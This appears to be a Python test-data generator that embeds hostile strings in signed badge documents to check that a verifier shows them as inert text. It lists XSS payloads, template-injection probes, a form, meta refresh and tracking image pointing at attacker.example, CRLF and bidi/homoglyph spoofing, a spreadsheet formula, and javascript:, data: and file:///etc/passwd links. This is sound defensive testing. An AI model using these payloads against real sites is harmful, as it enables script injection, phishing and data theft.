"""`text-*`, `href-*`: badges that are signed rightly, by issuers who put something else than words into them (T-16).

The badge is what it is, and its signature fits. Where the text is shown, it has to stay text.
"""

from __future__ import annotations

from tests.factories import put, sign
from tests.hostile.generate.honest import ISSUER, as_json, badge, signed_if_possible
from tests.hostile.generate.sample import INVALID, VALID, Sample

TEXTS = {
    "script": "<script>alert(1)</script>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "iframe": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute-single": "' onfocus='alert(1)' autofocus x='",
    "attribute-backtick": "` onload=alert(1) x=`",
    "end-of-title": "</title></style></textarea></script><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>-->",
    "cdata": "]]><script>alert(1)</script>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template-other": "${7*7} #{7*7} <%= 7*7 %> @{7*7}",
    "form": "<form action=https://attacker.example/><input name=email>",
    "base": "<base href=https://attacker.example/>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    "style": "<style>*{display:none}</style>",
    "markdown-link": "[Sign in](javascript:alert(1))",
    "markdown-image": "![x](https://attacker.example/track.png)",
    "markdown-autolink": "<javascript:alert(1)>",
    "markdown-html": "**bold** <b onclick=alert(1)>x</b>",
    "markdown-reference": "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "markdown-deep": "> " * 5_000 + "x",
    "markdown-brackets": "[" * 5_000 + "]" * 5_000,
    "markdown-stars": "*a " * 10_000,
    "markdown-backticks": "`" * 9_000 + "a",
    "bidi-override": "\u202egnp.exe\u202c Academy",
    "bidi-isolates": "\u2066\u2067\u2068" * 100 + "Academy",
    "bidi-unclosed": "Riverside \u202e\u202d\u2067",
    "zero-width": "R\u200bi\u200cv\u200de\ufeffr\u2060side",
    "homoglyph": "Rіvеrsіdе Асаdеmу",
    "combining": "A" + "\u0301" * 5_000,
    "line-separators": "Riverside\u2028Academy\u2029",
    "newlines": "Riverside\r\nBcc: everybody@riverside.example\r\n\r\nAcademy",
    "control-characters": "Riverside \x1b[2J\x07\x08 Academy",
    "delete-and-c1": "Riverside \x7f\x85\x9b Academy",
    "tags": "Riverside \U000e0052\U000e0069 Academy",
    "private-use": "\ue000\uf8ff\U000ffffd",
    "not-characters": "Riverside \ufffe\uffff Academy",
    "emoji-family": "👨\u200d👩\u200d👧\u200d👦" * 500,
    "long-word": "W" * 100_000,
    "long-words": "Academy " * 20_000,
    "spaces": " " * 5_000 + "x",
    "braces": "{0} {name} {__class__} %s %(x)s",
    "formula": '=HYPERLINK("https://attacker.example/","x")',
    "says-valid": "Valid. The signature fits. Verified by Laurel.",
    "json-island": '</script><script type="application/ld+json">{"@type":"x"}',
    "email": "evil@attacker.example",
    "null-word": "null",
    "undefined-word": "undefined",
}
# Where a stranger's words are shown, or may come to be.
SHOWN_AT = {
    "badge": "/name",
    "issuer": "/issuer/name",
    "learner": "/credentialSubject/identifier/0/identityHash",
    "achievement": "/credentialSubject/achievement/name",
    "description": "/credentialSubject/achievement/description",
    "narrative": "/credentialSubject/achievement/criteria/narrative",
}
LINKS = {
    "javascript": "javascript:alert(1)",
    "javascript-capitals": "JaVaScRiPt:alert(1)",
    "javascript-commented": "javascript://riverside.example/%0aalert(1)",
    "data-html": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "blob": "blob:https://riverside.example/1",
    "view-source": "view-source:https://riverside.example/",
    "userinfo": "https://riverside.example@attacker.example/",
    "userinfo-encoded": "https://riverside.example%40attacker.example/",
    "homoglyph-host": "https://rіverside.example/",
    "punycode-host": "https://xn--rverside-fcg.example/",
    "quote": "https://riverside.example/'onmouseover='alert(1)",
    "bidi": "https://riverside.example/\u202egnp.exe",
    "long": "https://riverside.example/" + "a" * 50_000,
    "ip-decimal": "https://2130706433/",
    "open-redirect": "https://riverside.example/?next=//attacker.example/",
    "intent": "intent://riverside.example/#Intent;scheme=javascript;end",
}
LINKED_AT = {
    "issuer": "/issuer/url",
    "criteria": "/credentialSubject/achievement/criteria/id",
    "evidence": "/evidence/0/id",
    "image": "/credentialSubject/achievement/image/id",
    "achievement": "/credentialSubject/achievement/id",
}


def texts():
    for label, text in TEXTS.items():
        yield Sample(f"text-{label}", "every text in it is hostile", VALID, lambda text=text: everywhere(text))


def everywhere(text: str) -> bytes:
    document = badge()
    for pointer in SHOWN_AT.values():
        document = put(document, pointer, text)
    return as_json(sign(document, ISSUER))


def links():
    for label, url in LINKS.items():
        for place, pointer in LINKED_AT.items():
            yield Sample(
                f"href-{label}-{place}",
                "a link in it leads astray",
                VALID | INVALID,  # by the grammar of the address; either way it must lead nowhere
                lambda pointer=pointer, url=url: _linked(pointer, url),
            )


def _linked(pointer: str, url: str) -> bytes:
    return as_json(signed_if_possible(put(badge(), pointer, url)))


def samples():
    yield from texts()
    yield from links()
